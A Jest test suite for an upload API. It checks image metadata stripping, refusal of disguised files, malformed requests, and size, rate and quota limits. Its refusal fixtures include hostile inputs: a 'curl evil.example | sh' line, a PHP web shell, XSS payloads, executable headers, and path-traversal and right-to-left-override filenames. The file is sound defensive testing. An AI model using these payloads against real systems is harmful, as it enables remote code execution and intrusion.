import { zipSync, strToU8 } from 'fflate';
import sharp from 'sharp';
import { startTestApp, type TestApp } from '../support/app';
import { sql } from '../support/database';
import { newMember, type TestMember } from '../support/factories';
import { inDays } from '../support/moderation';
import {
  animatedGif,
  officeDocument,
  OFFICE_TYPES,
  plainPhoto,
  PHOTO_SECRETS,
  PNG_SECRETS,
  pngClaiming,
  pngWithMetadata,
  screenshot,
  multipartBody,
  type RawBody,
  filePart,
  sendRaw,
  sendUpload,
  storedUploads,
  taggedPicture,
  upload,
} from '../support/uploads';

/**
 * Uploads (api.md 1.1), what a file must be to be taken: only a picture's pixels are kept (no text chunk,
 * XMP or hidden payload), a picture that cannot be decoded or claims too many pixels is a 415, documents
 * are judged by their bytes, a malformed request is a 4xx naming `file` that stores nothing, and the
 * site's size, rate and quota limits hold, even for eight uploads at once.
 */
describe('uploads: what is taken, and the limits', () => {
  let t: TestApp;
  let admin: TestMember;
  let ana: TestMember;

  beforeAll(async () => {
    t = await startTestApp();
    admin = await newMember(t, { role: 'admin' });
    ana = await newMember(t);
  });
  afterAll(() => t.close());

  const fetched = async (url: string, who: TestMember = ana) =>
    (await t.http().get(url).set(who.auth).buffer(true).expect(200)).body as Buffer;
  const settings = (body: object) => t.http().patch('/api/admin/settings').set(admin.auth).send(body).expect(200);

  describe('pictures keep only their pixels', () => {
    it('drops a PNG’s text comment, iTXt author and XMP packet', async () => {
      const original = await pngWithMetadata();
      const before = await sharp(original).metadata();
      expect(before.comments?.length).toBe(2);
      expect(before.xmp).toBeDefined();
      const file = await upload(t, ana, original, 'screen.png');
      expect(file).toMatchObject({ contentType: 'image/png', width: 40, height: 30 });
      const bytes = await fetched(file.url);
      for (const secret of PNG_SECRETS) expect(bytes.includes(Buffer.from(secret))).toBe(false);
      for (const chunk of ['tEXt', 'iTXt', 'zTXt', 'XML:com.adobe.xmp']) expect(bytes.includes(Buffer.from(chunk))).toBe(false);
      const after = await sharp(bytes).metadata();
      expect(after).toMatchObject({ format: 'png', width: 40, height: 30 });
      expect(after.comments).toBeUndefined();
      expect(after.xmp).toBeUndefined();
    });

    it.each(['jpeg', 'webp'] as const)('drops a %s picture’s EXIF, XMP packet and ICC profile', async (format) => {
      const original = await taggedPicture(format);
      expect(await sharp(original).metadata()).toMatchObject({
        exif: expect.any(Buffer),
        xmp: expect.any(Buffer),
        icc: expect.any(Buffer),
      });
      const bytes = await fetched((await upload(t, ana, original, `photo.${format}`)).url);
      for (const secret of [PHOTO_SECRETS[1]!, PHOTO_SECRETS[2]!, PNG_SECRETS[2]!]) expect(bytes.includes(Buffer.from(secret))).toBe(false);
      const { format: stored, exif, xmp, icc } = await sharp(bytes).metadata();
      expect({ stored, exif, xmp, icc }).toEqual({ stored: format, exif: undefined, xmp: undefined, icc: undefined });
    });

    it('keeps an animated GIF moving (an animated WebP of all its frames)', async () => {
      const file = await upload(t, ana, await animatedGif(), 'dance.gif');
      expect(file).toMatchObject({ name: 'dance.webp', contentType: 'image/webp', width: 16, height: 16 });
      const response = await t.http().get(file.url).set(ana.auth).buffer(true).expect(200);
      expect(response.headers['content-type']).toBe('image/webp');
      const metadata = await sharp(response.body as Buffer, { animated: true }).metadata();
      expect(metadata).toMatchObject({ format: 'webp', pages: 3, pageHeight: 16 });
      // A still GIF becomes a PNG (lossless, as a screenshot should stay).
      expect(await upload(t, ana, await animatedGif(['#ff0000']), 'still.gif')).toMatchObject({
        name: 'still.png',
        contentType: 'image/png',
      });
    });

    it('loses what hides after a JPEG’s end (EOI): a payload appended to a photo', async () => {
      const payload = Buffer.from('PK\x03\x04 hidden-payload-8812 <script>alert(1)</script>');
      const photo = Buffer.concat([await plainPhoto(60, 40), payload]);
      const file = await upload(t, ana, photo, 'holiday.jpg');
      const bytes = await fetched(file.url);
      expect(bytes.includes(Buffer.from('hidden-payload-8812'))).toBe(false);
      expect(bytes.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
      expect((await sharp(bytes).metadata()).format).toBe('jpeg');
    });

    it('refuses a truncated JPEG and a PNG claiming 30000×30000 with 415, quickly, storing nothing', async () => {
      const before = await storedUploads(t);
      const noisy = Buffer.alloc(120 * 80 * 3);
      for (let index = 0; index < noisy.length; index += 1) noisy[index] = (index * 7919) % 251;
      const jpeg = await sharp(noisy, { raw: { width: 120, height: 80, channels: 3 } })
        .jpeg()
        .toBuffer();
      const truncated = await sendUpload(t, ana, jpeg.subarray(0, Math.floor(jpeg.length * 0.7)), 'cut.jpg').expect(415);
      expect(truncated.body.message).toMatch(/^file/);
      const started = Date.now();
      const bomb = await sendUpload(t, ana, await pngClaiming(30000, 30000), 'bomb.png').expect(415);
      expect(bomb.body.message).toMatch(/^file/);
      expect(Date.now() - started).toBeLessThan(2000);
      expect(await storedUploads(t)).toBe(before);
    });

    it('stores a 4000×3000 photo at 2048 on its longer edge, and a thumbnail of at most 640', async () => {
      const file = await upload(t, ana, await plainPhoto(4000, 3000), 'big.jpg');
      expect(file).toMatchObject({ width: 2048, height: 1536, contentType: 'image/jpeg' });
      expect(await sharp(await fetched(file.url)).metadata()).toMatchObject({ width: 2048, height: 1536 });
      const thumbnail = await sharp(await fetched(`${file.url}/thumbnail`)).metadata();
      expect(thumbnail).toMatchObject({ format: 'webp', width: 640, height: 480 });
    });
  });

  describe('documents are judged by their bytes', () => {
    const text = (content: string) => () => Buffer.from(content);
    const binary = (content: string) => () => Buffer.from(content, 'latin1');
    const zip = (entries: Record<string, string>) => () =>
      Buffer.from(zipSync(Object.fromEntries(Object.entries(entries).map(([name, content]) => [name, strToU8(content)]))));
    // Four values in every row: jest takes a test function with more parameters than its row for one awaiting done().
    const refusals: [string, () => Buffer | Promise<Buffer>, string, string | undefined][] = [
      ['an SVG with an XML prolog', text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'), 'logo.txt', undefined],
      ['an SVG without a prolog, after a BOM and blank lines', text('\uFEFF\n\n  <svg onload="alert(1)"></svg>'), 'logo.csv', undefined],
      ['HTML named .txt (no doctype, a div)', text('<div onclick="alert(1)">click</div>'), 'notes.txt', undefined],
      ['HTML named .txt (an image with onerror)', text('<img src=x onerror=alert(1)>'), 'notes.txt', undefined],
      ['a shell script named .csv', text('#!/bin/sh\ncurl evil.example | sh\n'), 'sites.csv', undefined],
      ['a PHP script named .csv', text('<?php system($_GET["c"]); ?>\n'), 'sites.csv', undefined],
      ['an ELF executable named .pdf', binary('\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00'), 'brief.pdf', undefined],
      ['a PE executable named .pdf', binary('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff'), 'brief.pdf', undefined],
      ['a zip that is no office document', zip({ 'run.exe': 'MZ not really' }), 'archive.docx', undefined],
      ['a plain zip with its own name', zip({ 'notes.txt': 'hello' }), 'archive.zip', undefined],
      ['a .docx name over PDF bytes', text('%PDF-1.4\n%%EOF'), 'brief.docx', undefined],
      ['a claimed image/png over JPEG bytes', () => plainPhoto(20, 20), 'photo', 'image/png'],
      ['a DOCX claiming to be a PDF', () => officeDocument('docx'), 'brief', 'application/pdf'],
    ];
    it.each(refusals)('refuses %s with 415 naming file, storing nothing', async (_what, bytes, name, type) => {
      const before = await storedUploads(t);
      const response = await sendUpload(t, ana, await bytes(), name, type).expect(415);
      expect(response.body.message).toMatch(/\bfile\b/);
      expect(await storedUploads(t)).toBe(before);
    });

    it('takes a DOCX, an XLSX and an ODT as they are, served as attachments of their office type', async () => {
      for (const kind of ['docx', 'xlsx', 'odt'] as const) {
        const bytes = officeDocument(kind);
        const file = await upload(t, ana, bytes, `Policy brief.${kind}`);
        expect(file).toMatchObject({ name: `Policy brief.${kind}`, contentType: OFFICE_TYPES[kind], size: bytes.length });
        const response = await t.http().get(file.url).set(ana.auth).responseType('blob').expect(200);
        expect(response.headers['content-type']).toBe(OFFICE_TYPES[kind]);
        expect(response.headers['content-disposition']).toMatch(/^attachment; filename="Policy brief\./);
        expect(response.headers['x-content-type-options']).toBe('nosniff');
        expect(Buffer.compare(response.body as Buffer, bytes)).toBe(0);
      }
    });

    it('takes CSV and plain text under a UTF-8 name, kept for the download', async () => {
      const csv = await upload(t, ana, Buffer.from('site;kits\nMontréal;12\n'), 'résumé été.csv');
      expect(csv).toMatchObject({ name: 'résumé été.csv', contentType: 'text/csv; charset=utf-8' });
      const served = await t.http().get(csv.url).set(ana.auth).responseType('blob').expect(200);
      expect(served.headers['content-disposition']).toBe(
        `attachment; filename="r_sum_ _t_.csv"; filename*=UTF-8''${encodeURIComponent('résumé été.csv')}`,
      );
      expect((served.body as Buffer).toString()).toBe('site;kits\nMontréal;12\n');
      const text = await upload(t, ana, Buffer.from('Naloxone: 2nd floor\n'), '../../etc/notes.txt');
      expect(text).toMatchObject({ name: 'notes.txt', contentType: 'text/plain; charset=utf-8' });
    });

    it('never answers 500 for a name with a NUL, a lone surrogate, control characters, a direction override or 300 letters', async () => {
      const names: [string, string][] = [
        ["filename*=UTF-8''nul%00byte.txt", 'nulbyte.txt'],
        ["filename*=UTF-8''lone%ED%A0%80surrogate.txt", 'lonesurrogate.txt'],
        ["filename*=UTF-8''tab%09here%07bell%C2%85.txt", 'tabherebell.txt'],
        // A right-to-left override would show "invoice\u202Efdp.txt" as "invoicetxt.pdf".
        ["filename*=UTF-8''invoice%E2%80%AEfdp.txt", 'invoicefdp.txt'],
        [`filename="${'é'.repeat(300)}.txt"`, `${'é'.repeat(150)}.txt`],
        ['filename=".txt"', 'file.txt'],
      ];
      for (const [filename, stored] of names) {
        const response = await sendRaw(t, ana, multipartBody([{ disposition: filePart(filename), body: Buffer.from('hello\n') }]));
        expect([filename, response.status, response.body.name]).toEqual([filename, 201, stored]);
        const served = await t.http().get(response.body.url).set(ana.auth).expect(200);
        expect(served.headers['content-disposition']).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''/);
      }
      // Raw control characters make the part's header unreadable: the request's fault, said as such.
      const raw = await sendRaw(t, ana, multipartBody([{ disposition: filePart('filename="tab\there\x07.txt"'), body: Buffer.from('x') }]));
      expect([raw.status, raw.body.message]).toEqual([400, expect.stringMatching(/^file must be/)]);
    });
  });

  describe('malformed requests: a 4xx naming what is wrong, nothing stored', () => {
    const file = /^file must be/;
    const parts =
      (...list: [string, string][]) =>
      () =>
        multipartBody(list.map(([disposition, body]) => ({ disposition, body: Buffer.from(body) })));
    const cases: [string, () => RawBody, number, RegExp][] = [
      ['no part at all', parts(), 400, file],
      ['a text field instead of the file', parts(['form-data; name="file"', 'hello']), 400, file],
      ['an empty file', parts([filePart('filename="empty.txt"'), '']), 400, file],
      ['two files', parts([filePart('filename="a.txt"'), 'one'], [filePart('filename="b.txt"'), 'two']), 400, file],
      ['the file and an extra field', parts([filePart('filename="a.txt"'), 'one'], ['form-data; name="alt"', 'a flyer']), 400, file],
      ['the file under another name', parts(['form-data; name="upload"; filename="a.txt"', 'x']), 400, file],
      [
        'multipart without its boundary',
        () => ({ type: 'multipart/form-data', body: Buffer.from('--x\r\n\r\nhi\r\n--x--\r\n') }),
        400,
        file,
      ],
      [
        'multipart cut short',
        () => ({
          ...parts([filePart('filename="a.txt"'), 'abc'])(),
          body: parts([filePart('filename="a.txt"'), 'abc'])().body.subarray(0, 80),
        }),
        400,
        file,
      ],
      // The header is what is wrong: the answer names it and the type the route takes.
      ['JSON', () => ({ type: 'application/json', body: Buffer.from('{"file":"aGVsbG8="}') }), 415, /multipart\/form-data/],
      ['plain text', () => ({ type: 'text/plain', body: Buffer.from('hello') }), 415, /multipart\/form-data/],
    ];
    it.each(cases)('%s', async (_what, request, status, message) => {
      const before = await storedUploads(t);
      const response = await sendRaw(t, ana, request());
      expect([response.status, response.body.message]).toEqual([status, expect.stringMatching(message)]);
      expect(await storedUploads(t)).toBe(before);
    });
  });

  describe('limits', () => {
    it('takes a file of exactly uploadMaxMb, and answers 413 one byte past it, storing nothing', async () => {
      await settings({ uploadMaxMb: 1 });
      try {
        const before = await storedUploads(t, ana.user.id);
        await sendUpload(t, ana, Buffer.alloc(1024 * 1024 + 1, 'a'), 'big.txt').expect(413);
        expect(await storedUploads(t, ana.user.id)).toBe(before);
        await sendUpload(t, ana, Buffer.alloc(1024 * 1024, 'a'), 'fits.txt').expect(201);
      } finally {
        await settings({ uploadMaxMb: 8 });
      }
    });

    it('answers 429 with Retry-After past rateLimits.uploadsPerHour (refused files count too)', async () => {
      const member = await newMember(t);
      await settings({ rateLimits: { uploadsPerHour: 2 } });
      try {
        await sendUpload(t, member, Buffer.from('<svg/>'), 'a.svg').expect(415);
        await sendUpload(t, member, Buffer.from('one'), 'one.txt').expect(201);
        const refused = await sendUpload(t, member, Buffer.from('two'), 'two.txt').expect(429);
        expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
        expect(await storedUploads(t, member.user.id)).toBe(1);
        // Admins are not counted.
        for (let index = 0; index < 3; index += 1) await sendUpload(t, admin, Buffer.from('note'), 'note.txt').expect(201);
      } finally {
        // Off again, as the test harness leaves it for the other tests.
        await settings({ rateLimits: { uploadsPerHour: 0 } });
      }
    });

    it('answers 422 past uploadQuotaMb; eight at once that only three fit: exactly three stored', async () => {
      const member = await newMember(t);
      await settings({ uploadQuotaMb: 1 });
      try {
        const third = Buffer.alloc(300_000, 'b');
        const answers = await Promise.all(Array.from({ length: 8 }, (_, index) => sendUpload(t, member, third, `part ${index}.txt`)));
        const statuses = answers.map((answer) => answer.status).sort();
        expect(statuses).toEqual([201, 201, 201, 422, 422, 422, 422, 422]);
        const refused = answers.find((answer) => answer.status === 422)!;
        expect(refused.body.message).toMatch(/^file: .*quota of 1 MB/);
        expect(await storedUploads(t, member.user.id)).toBe(3);
        const [row] = await sql<{ total: string }>(t.databaseUrl, 'SELECT sum(size) AS total FROM uploads WHERE uploader_id = $1', [
          member.user.id,
        ]);
        expect(Number(row!.total)).toBe(900_000);
        // 0 is no quota at all.
        await settings({ uploadQuotaMb: 0 });
        await sendUpload(t, member, third, 'more.txt').expect(201);
      } finally {
        await settings({ uploadQuotaMb: 500 });
      }
    });

    it('refuses a silenced member (403) and a signed-out caller (401)', async () => {
      const member = await newMember(t);
      await t
        .http()
        .post(`/api/moderation/users/${member.user.id}/sanctions`)
        .set(admin.auth)
        .send({ type: 'silence', reason: 'Spam', until: inDays(1) })
        .expect(201);
      await sendUpload(t, member, await screenshot(), 'shot.png').expect(403);
      await t
        .http()
        .post('/api/uploads')
        .attach('file', await screenshot(), 'shot.png')
        .expect(401);
      await t
        .http()
        .post('/api/uploads')
        .set({ Authorization: 'Bearer not-a-token' })
        .attach('file', Buffer.from('x'), 'x.txt')
        .expect(401);
      expect(await storedUploads(t, member.user.id)).toBe(0);
    });
  });
});
